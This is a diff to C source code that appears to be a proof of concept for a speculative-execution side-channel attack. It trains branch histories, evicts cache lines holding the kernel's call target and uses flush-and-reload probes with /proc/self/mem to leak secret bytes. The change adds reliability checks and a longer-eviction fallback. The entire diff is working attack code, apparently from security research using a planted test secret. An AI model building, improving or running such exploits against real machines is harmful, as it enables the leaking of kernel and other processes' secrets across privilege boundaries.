@@ -18,11 +18,14 @@
 #include "secret.h"
 #include "train.h"
 
-enum { HISTORIES = 256, TRIES = 512, ROUNDS = 6, ATTEMPTS = 3, PROGRAM_LINE = 0 };
+enum { HISTORIES = 256, TRIES = 512, ROUNDS = 6, ATTEMPTS = 3, CHECKS = 6, PROGRAM_LINE = 0 };
 
 static const uint8_t *array;
 static int memory;
 static uint64_t trained[HISTORIES], trained_history, history;
+
+/* How far away the address of the program to call is to be. */
+static long pages_to_evict;
 
 /*
  * The kernel calls the program for names. There is one copy of this function, because its own
@@ -42,7 +45,7 @@ static __attribute__((noinline)) int call_with_result(uint64_t bits, uint64_t ad
 	touch(array + SHARED_KNOWN);
 	flush_probe(probe);
 	/* The address of the program to call is in the first line of a page. */
-	evict(PROGRAM_LINE, second_level_pages);
+	evict(PROGRAM_LINE, pages_to_evict);
 	leave_history(bits);
 	lseek(memory, address, SEEK_SET);
 	return reload_probe(probe);
@@ -52,6 +55,57 @@ static void train_histories(int from, int to)
 {
 	for (int i = from; i < to; i++)
 		call_with_name(trained[i]);
+}
+
+/*
+ * The first attempt after another process has used the secret spends what time there is on the walk
+ * to it, and on bringing it nearer, which spares both to the next.
+ */
+static int read_byte(uint64_t address)
+{
+	int value = NOTHING;
+
+	for (int i = 0; i < ATTEMPTS && value == NOTHING; i++) {
+		call_with_name(trained_history);
+		value = call_with_result(history, address);
+	}
+	return value;
+}
+
+/* Whether the known byte is read each time. */
+static int reads_known_byte_each_time(void)
+{
+	for (int i = 0; i < CHECKS; i++) {
+		use_secret(0);
+		if (read_byte(options.known) != KNOWN_BYTE)
+			return 0;
+	}
+	return 1;
+}
+
+/*
+ * The address of the program to call is to come from memory, not the last cache: the processor has not
+ * seen the branches of the program for names under the history of the other call, and what it predicts
+ * for them is wrong now and then, which costs time.
+ */
+static void take_more_time(void)
+{
+	static long far_pages;
+
+	if (!far_pages)
+		far_pages = prepare_far_eviction();
+	pages_to_evict = far_pages;
+}
+
+static int is_reliable(void)
+{
+	if (reads_known_byte_each_time())
+		return 1;
+	take_more_time();
+	if (reads_known_byte_each_time())
+		return 1;
+	pages_to_evict = second_level_pages;
+	return 0;
 }
 
 /* Finds two histories that collide. */
@@ -77,27 +131,18 @@ static int find_collision(void)
 				from = middle;
 		}
 		trained_history = trained[from];
-		call_with_name(trained_history);
-		if (call_with_result(history, options.known) == KNOWN_BYTE)
+		if (is_reliable())
 			return 1;
 	}
 	return 0;
 }
 
-/*
- * The first attempt after another process has used the secret spends what time there is on the walk
- * to it, and on bringing it nearer, which spares both to the next.
- */
 static int sample(int index)
 {
-	int value = NOTHING;
-
+	if (tried_before)
+		take_more_time();
 	use_secret(index);
-	for (int i = 0; i < ATTEMPTS && value == NOTHING; i++) {
-		call_with_name(trained_history);
-		value = call_with_result(history, options.address + index);
-	}
-	return value;
+	return read_byte(options.address + index);
 }
 
 int main(int argc, char **argv)
@@ -112,6 +157,7 @@ int main(int argc, char **argv)
 		err(1, "/proc/self/mem");
 	calibrate();
 	prepare_eviction();
+	pages_to_evict = second_level_pages;
 	for (int i = 0; i < ROUNDS && !find_collision(); i++)
 		;
 	recover(sample, (struct patience){ .samples = 16, .lead = 2 }, 1);
